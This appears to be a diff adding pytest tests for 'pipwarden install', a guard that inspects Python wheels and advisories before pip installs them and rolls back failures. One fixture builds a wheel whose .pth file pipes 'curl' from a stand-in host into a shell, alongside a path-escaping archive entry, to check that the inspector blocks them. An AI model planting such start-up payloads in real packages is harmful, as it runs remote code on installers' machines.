@@ -1,0 +1,409 @@
+"""pipwarden install: units for plan/guard/wheel inspection, and end-to-end runs with real pip
+in a virtual environment, wheels built here, ``--no-index --find-links``."""
+
+from __future__ import annotations
+
+import io
+import json
+import os
+from pathlib import Path
+
+import pytest
+
+from pipwarden.cli import main
+from pipwarden.errors import UsageError
+from pipwarden.install import guard, plan, snapshot, wheels
+from pipwarden.install.journal import Journal
+from test_install_support import (
+    build_store,
+    freeze,
+    host_pip_dir,
+    make_venv,
+    make_wheel,
+    mal_record,
+    records,
+    reset_venv,
+    vuln_record,
+)
+
+# --- units -------------------------------------------------------------------------------------
+
+
+def test_split_pip_args_classifies_and_refuses() -> None:
+    args = plan.split_pip_args(
+        [
+            "-r",
+            "req.txt",
+            "requests>=2",
+            "-U",
+            "--index-url=http://index.invalid/simple",
+            "--pre",
+            "-fwheels",
+            "--force-reinstall",
+        ]
+    )
+    assert args.requirement_files == ("req.txt",)
+    assert args.requested == ("requests",)
+    assert args.reinstall
+    assert (
+        "--index-url" in args.install_options
+        and "http://index.invalid/simple" in args.install_options
+    )
+    assert "--find-links" in args.install_options and "wheels" in args.install_options
+    assert "-U" not in args.install_options and "req.txt" not in args.install_options
+    for refused in (["--target", "x"], ["--prefix=/x"], ["--root", "/"], ["--report", "r.json"]):
+        with pytest.raises(UsageError):
+            plan.split_pip_args(["pkg", *refused])
+
+
+def test_requirement_file_sources_resolve_relative_find_links(tmp_path: Path) -> None:
+    (tmp_path / "wheels").mkdir()
+    req = tmp_path / "req.txt"
+    req.write_text(
+        "# comment\n--no-index\n--find-links wheels\n-i http://index.invalid/simple\nfoo==1\n"
+    )
+    out = plan.requirement_file_sources([str(req)])
+    assert out == [
+        "--no-index",
+        "--find-links",
+        str((tmp_path / "wheels").resolve()),
+        "--index-url",
+        "http://index.invalid/simple",
+    ]
+
+
+def test_parse_report_kinds_and_hashes() -> None:
+    data = {
+        "pip_version": "26.0",
+        "install": [
+            {
+                "download_info": {
+                    "url": "file:///w/a-1.0-py3-none-any.whl",
+                    "archive_info": {"hash": "sha256=" + "a" * 64},
+                },
+                "requested": True,
+                "metadata": {"name": "A", "version": "1.0"},
+            },
+            {
+                "download_info": {
+                    "url": "http://index.invalid/b-2.0.tar.gz",
+                    "archive_info": {"hashes": {"sha256": "B" * 64}},
+                },
+                "metadata": {"name": "b", "version": "2.0"},
+            },
+            {
+                "download_info": {"url": "file:///src/proj", "dir_info": {"editable": True}},
+                "is_direct": True,
+                "metadata": {"name": "proj", "version": "0.1"},
+            },
+        ],
+    }
+    parsed = plan.parse_report(data, "python")
+    a, b, proj = parsed.items
+    assert (a.key, a.kind, a.sha256, a.requested) == ("a", "wheel", "a" * 64, True)
+    assert (b.kind, b.sha256, b.requested) == ("sdist", "b" * 64, False)
+    assert (proj.kind, proj.hashable, proj.is_direct) == ("editable", False, True)
+    with pytest.raises(Exception, match="lacks name"):
+        plan.parse_report({"install": [{"metadata": {}}]}, "python")
+
+
+def test_inspect_wheel_flags(tmp_path: Path) -> None:
+    bad = make_wheel(
+        tmp_path,
+        "sneaky",
+        "1.0",
+        files={
+            "sneaky/__init__.py": "",
+            "sneaky.pth": "import os; os.system('curl http://x.invalid | sh')\n",
+            "requests/__init__.py": "# not really requests\n",
+            "sneaky-1.0.data/scripts/helper": b"\x7fELF\x02\x01\x01rest",
+        },
+        console_scripts={"sudo": "sneaky:main", "sneaky": "sneaky:main"},
+    )
+    found = wheels.inspect_wheel(
+        bad, "sneaky", other_projects={"requests": ("requests", 10**9)}, own_downloads=0
+    )
+    checks = {(i.check, i.verdict) for i in found.issues}
+    assert ("pth", "BLOCK") in checks
+    assert ("shadow", "REVIEW") in checks
+    assert ("native", "REVIEW") in checks
+    assert ("overwrite", "REVIEW") in checks
+    assert not any("'sneaky'" in i.reason for i in found.issues)
+
+
+def test_inspect_wheel_benign(tmp_path: Path) -> None:
+    pth = (
+        "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == "
+        "'local'; enabled and __import__('_distutils_hack').add_shim(); \n"
+    )
+    ok = make_wheel(
+        tmp_path,
+        "pip",
+        "99.0",
+        files={"pip/__init__.py": "", "distutils-precedence.pth": pth, "paths.pth": "src\n"},
+        console_scripts={"pip": "pip:main", "pip3": "pip:main", "pip3.12": "pip:main"},
+    )
+    found = wheels.inspect_wheel(ok, "pip")
+    assert [i.verdict for i in found.issues] == ["OK"]
+    assert found.top_level == ("distutils-precedence.pth", "paths.pth", "pip")
+
+
+def test_inspect_unreadable_and_escaping(tmp_path: Path) -> None:
+    junk = tmp_path / "junk-1.0-py3-none-any.whl"
+    junk.write_bytes(b"not a zip")
+    assert wheels.inspect_wheel(junk, "junk").issues[0].verdict == "BLOCK"
+    escaping = make_wheel(tmp_path, "esc", "1.0", files={"../../etc/evil": "x", "esc.py": ""})
+    assert any(i.check == "unsafe-path" for i in wheels.inspect_wheel(escaping, "esc").issues)
+
+
+def _item(name: str, version: str, **kw: object) -> plan.PlannedItem:
+    base: dict[str, object] = {
+        "name": name,
+        "version": version,
+        "url": f"file:///w/{name}-{version}-py3-none-any.whl",
+        "sha256": "0" * 64,
+        "requested": True,
+        "is_direct": False,
+        "kind": "wheel",
+    }
+    base.update(kw)
+    return plan.PlannedItem(**base)  # type: ignore[arg-type]
+
+
+def _snap(**versions: str) -> snapshot.Snapshot:
+    dists = {
+        k: snapshot.DistState(name=k, key=k, version=v, info_dir=None) for k, v in versions.items()
+    }
+    return snapshot.Snapshot("python", "/prefix", "3.11.0", {}, dists)
+
+
+def test_guard_verdicts_and_headline() -> None:
+    from pipwarden.models import MaliciousFinding, Severity, TyposquatFinding
+
+    items = [
+        _item("fine", "1.0"),
+        _item("old", "2.0"),
+        _item("evil", "0.1"),
+        _item("reqeusts", "1.0"),
+        _item("src", "1.0", kind="sdist"),
+    ]
+    mal = MaliciousFinding(id="MAL-1", severity=Severity.CRITICAL, summary="bad", package="evil")
+    squat = TyposquatFinding(
+        id="T",
+        severity=Severity.HIGH,
+        summary="reqeusts: looks like requests",
+        package="reqeusts",
+        confidence="high",
+    )
+    result = guard.evaluate(items, _snap(old="1.0"), advisories=[mal], typosquats=[squat])
+    verdicts = {p.item.key: (p.action, p.verdict) for p in result.packages}
+    assert verdicts == {
+        "fine": ("add", "OK"),
+        "old": ("upgrade", "OK"),
+        "evil": ("add", "BLOCK"),
+        "reqeusts": ("add", "BLOCK"),
+        "src": ("add", "REVIEW"),
+    }
+    assert result.headline() == "plan: add 4, upgrade 1 — 2 BLOCK, 1 REVIEW"
+    assert result.verdict == "BLOCK"
+    ok, message = guard.confirm(result, yes=True)
+    assert not ok and "BLOCK" in message
+
+
+def test_confirm_without_tty_needs_yes() -> None:
+    result = guard.evaluate([_item("x", "1.0", kind="sdist")], _snap(), advisories=[])
+    assert result.verdict == "REVIEW"
+    ok, message = guard.confirm(result, yes=False, stdin=io.StringIO("y\n"), stdout=io.StringIO())
+    assert not ok and "--yes" in message
+    assert guard.confirm(result, yes=True) == (True, "")
+
+    class Tty(io.StringIO):
+        def isatty(self) -> bool:
+            return True
+
+    shown = Tty()
+    assert guard.confirm(result, yes=False, stdin=Tty("y\n"), stdout=shown) == (True, "")
+    assert shown.getvalue() == "Proceed? [y/N] "
+    assert not guard.confirm(result, yes=False, stdin=Tty("\n"), stdout=Tty())[0]
+
+
+def test_no_store_means_review() -> None:
+    result = guard.evaluate([_item("x", "1.0")], _snap(), advisories=None)
+    assert result.verdict == "REVIEW"
+    assert "no advisory store" in result.warnings[0]
+
+
+# --- end to end ----------------------------------------------------------------------------------
+
+
+@pytest.fixture(scope="module")
+def env(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
+    base = tmp_path_factory.mktemp("install-e2e")
+    python = make_venv(base / "venv", host_pip_dir(base))
+    wheelhouse = base / "wheels"
+    make_wheel(wheelhouse, "alpha", "1.0", requires=("beta>=1",))
+    make_wheel(wheelhouse, "beta", "1.0")
+    make_wheel(wheelhouse, "beta", "2.0")
+    make_wheel(wheelhouse, "evilpkg", "1.0")
+    make_wheel(
+        wheelhouse,
+        "pthpkg",
+        "1.0",
+        files={"pthpkg/__init__.py": "", "zzz_pthpkg.pth": "import os; os.getpid()\n"},
+    )
+    make_wheel(wheelhouse, "good", "1.0")
+    make_wheel(wheelhouse, "good", "2.0")
+    make_wheel(
+        wheelhouse,
+        "broken",
+        "1.0",
+        files={"broken/__init__.py": "", "broken-1.0.data/bogus/x.txt": "x"},
+    )
+    osv = base / "osv"
+    mal_record(osv, "MAL-2026-1", "evilpkg")
+    vuln_record(osv, "PYSEC-2026-1", "beta", fixed="2.0", severity="MODERATE")
+    store_home = base / "store"
+    build_store(store_home, osv)
+    return {"python": python, "wheels": wheelhouse, "store": store_home / "advisories.sqlite"}
+
+
+@pytest.fixture
+def pwhome(env: dict[str, Path], tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
+    home = tmp_path / "pwhome"
+    home.mkdir()
+    os.symlink(env["store"], home / "advisories.sqlite")
+    monkeypatch.setenv("PIPWARDEN_HOME", str(home))
+    reset_venv(env["python"])
+    return home
+
+
+def _install(env: dict[str, Path], *args: str) -> int:
+    return main(
+        [
+            "install",
+            "--python",
+            str(env["python"]),
+            "--no-index",
+            "--find-links",
+            str(env["wheels"]),
+            *args,
+        ]
+    )
+
+
+def test_clean_install_prints_plan_and_summary(
+    env: dict[str, Path], pwhome: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    code = _install(env, "alpha", "beta<2")
+    out = capsys.readouterr().out
+    assert code == 0, out
+    lines = out.splitlines()
+    assert lines[0] == "plan: add 2 — all OK"
+    assert any(
+        line.split()[:3] == ["OK", "beta", "1.0"] and "PYSEC-2026-1" in line for line in lines
+    )
+    assert any(
+        line.split()[:3] == ["OK", "alpha", "1.0"] and "no known problems" in line for line in lines
+    )
+    assert lines[-2] == (
+        "added 2, upgraded 0, removed 0 packages; audited 2 packages: 1 vulnerability (1 moderate)"
+    )
+    assert (
+        lines[-1]
+        == f"run pipwarden fix to upgrade; undo with pipwarden rollback 1 --python {env['python']}"
+    )
+    assert freeze(env["python"]).split() == ["alpha==1.0", "beta==1.0"]
+    # What landed is the checked file, installed by name (no direct URL recorded).
+    assert all("direct_url" not in r for r in records(env["python"]).values())
+    journal = Journal.for_prefix(snapshot.prefix_of(str(env["python"])))
+    tx = journal.load(1)
+    assert tx.status == "applied"
+    assert {(c.name, c.before, c.after) for c in tx.changes} == {
+        ("alpha", None, "1.0"),
+        ("beta", None, "1.0"),
+    }
+
+
+def test_dry_run_changes_nothing(
+    env: dict[str, Path], pwhome: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    assert _install(env, "--dry-run", "alpha") == 0
+    assert capsys.readouterr().out.startswith("plan: add 2 — all OK")
+    assert freeze(env["python"]).split() == []
+    assert not (pwhome / "journal").exists()
+
+
+def test_malicious_package_is_blocked(
+    env: dict[str, Path], pwhome: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    code = _install(env, "--yes", "evilpkg", "good==1.0")
+    captured = capsys.readouterr()
+    assert code == 1
+    assert captured.out.splitlines()[0] == "plan: add 2 — 1 BLOCK"
+    assert any(
+        line.split()[:2] == ["BLOCK", "evilpkg"] and "known malicious (MAL-2026-1)" in line
+        for line in captured.out.splitlines()
+    )
+    assert "refused" in captured.err
+    assert freeze(env["python"]).split() == []
+    assert not (pwhome / "journal").exists()
+
+
+def test_code_running_pth_is_blocked(
+    env: dict[str, Path], pwhome: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    code = _install(env, "--yes", "pthpkg")
+    out = capsys.readouterr().out
+    assert code == 1
+    assert "BLOCK" in out and "zzz_pthpkg.pth runs code at every Python start-up" in out
+    assert freeze(env["python"]).split() == []
+
+
+def test_review_without_tty_is_refused_then_accepted_with_yes(
+    env: dict[str, Path],
+    tmp_path: Path,
+    monkeypatch: pytest.MonkeyPatch,
+    capsys: pytest.CaptureFixture[str],
+) -> None:
+    home = tmp_path / "nostore"
+    home.mkdir()
+    monkeypatch.setenv("PIPWARDEN_HOME", str(home))  # no store: the plan needs review
+    reset_venv(env["python"])
+    assert _install(env, "good==1.0") == 1
+    assert "re-run with --yes" in capsys.readouterr().err
+    assert freeze(env["python"]).split() == []
+    assert _install(env, "--yes", "good==1.0") == 0
+    assert freeze(env["python"]).split() == ["good==1.0"]
+
+
+def test_pip_failure_mid_install_is_rolled_back(
+    env: dict[str, Path], pwhome: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    assert _install(env, "good==1.0") == 0
+    before_freeze, before_records = freeze(env["python"]), records(env["python"])
+    capsys.readouterr()
+    code = _install(env, "good==2.0", "broken")
+    captured = capsys.readouterr()
+    assert code == 2
+    assert "Unknown scheme key" in captured.err  # pip's own error is shown
+    assert "good 2.0 -> 1.0" in captured.out  # pip had upgraded good before failing
+    assert "the environment was rolled back" in captured.err
+    assert freeze(env["python"]) == before_freeze
+    assert records(env["python"]) == before_records
+    journal = Journal.for_prefix(snapshot.prefix_of(str(env["python"])))
+    assert journal.load(2).status == "failed"
+
+
+def test_history_lists_transactions(
+    env: dict[str, Path], pwhome: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    assert _install(env, "good==1.0") == 0
+    assert _install(env, "good==2.0") == 0
+    capsys.readouterr()
+    assert main(["history", "--python", str(env["python"])]) == 0
+    lines = capsys.readouterr().out.splitlines()
+    assert len(lines) == 2
+    assert lines[0].split()[0] == "1" and "[applied]  added: good 1.0" in lines[0]
+    assert lines[1].split()[0] == "2" and "upgraded: good 1.0 -> 2.0" in lines[1]
+    data = json.loads((pwhome / "journal").glob("*/2/transaction.json").__next__().read_text())
+    assert data["wheels"][0]["name"] == "good" and data["wheels"][0]["version"] == "1.0"
